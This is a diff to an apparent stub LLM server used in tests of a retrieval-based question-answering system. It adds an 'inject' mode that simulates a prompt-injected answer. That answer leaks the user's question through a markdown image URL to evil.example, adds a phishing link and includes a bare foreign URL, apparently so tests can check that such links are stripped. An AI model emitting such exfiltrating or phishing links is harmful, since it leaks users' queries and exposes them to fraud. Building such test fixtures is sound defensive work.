@@ -11,6 +11,9 @@ protocol closely enough for the official `openai` SDK, with misbehaviours on dem
     close        a few tokens, then the connection is dropped mid-stream
     invalid_json a stream (or body) that is not JSON
     error500     HTTP 500 with an error body
+    inject       what a prompt injection would make a model write: a cited sentence, then a
+                 markdown image carrying the question to a foreign site, a phishing link, a bare
+                 foreign URL, and a link to a URL the passages hold (the only target that may stay)
 
 Rewrite requests (the follow-up prompt) are answered, in every mode but error/stall, with
 "<previous user question> <last question>" so tests can see the LLM rewrite was used.
@@ -37,7 +40,10 @@ _SENTENCE = re.compile(r"[^。！？!?；;\n]+[。！？!?；;]")
 
 
 def passages_of(prompt: str) -> dict[int, str]:
-    return {int(m.group(1)): m.group(2).strip() for m in _BLOCK.finditer(prompt)}
+    """The passages of an answer prompt, their "> " quoting taken off."""
+    return {int(m.group(1)): "\n".join(line[2:] if line.startswith("> ") else line
+                                       for line in m.group(2).strip().splitlines())
+            for m in _BLOCK.finditer(prompt)}
 
 
 def first_sentence(text: str, skip_headings: bool = True) -> str:
@@ -52,6 +58,20 @@ def cited_answer(prompt: str) -> str:
     passages = passages_of(prompt)
     parts = [f"{first_sentence(passages[n])}[{n}]" for n in sorted(passages)[:2]]
     return "".join(parts) or "文件中没有涉及这个问题。"
+
+
+def injected_answer(prompt: str) -> str:
+    """What a model that obeyed a hostile passage writes: the question sent off in an image URL,
+    a phishing link, a bare URL, and one link to a page the passages themselves name."""
+    passages = passages_of(prompt)
+    question = re.search(r"问题 Question: (.*)$", prompt, re.M)
+    own = [u.rstrip("。，.") for u in re.findall(r"https?://[^\s)）\]]+", "\n".join(passages.values()))
+           if "evil.example" not in u]
+    own_link = f"[原文 source]({own[0]})" if own else ""
+    leak = (question.group(1) if question else "").replace(" ", "+")
+    return (f"{first_sentence(passages.get(1, ''))}[1]"
+            f"![x](https://evil.example/leak.png?q={leak}) 详情见[点击领取补贴](https://evil.example/phish?id=42 \"title\")，"
+            f"或访问 https://evil.example/bare 。{own_link}")
 
 
 def rewritten(prompt: str) -> str:
@@ -105,6 +125,8 @@ class StubLLM:
                 text = rewritten(prompt)
             elif mode == "unsupported":
                 text = "该政策规定每位申请人每月可领取十万元火星移民补贴。[1]"
+            elif mode == "inject":
+                text = injected_answer(prompt)
             elif mode == "cite9":
                 text = f"{first_sentence(passages_of(prompt).get(1, ''))}[1]这一点也有规定。[9]"
             else:
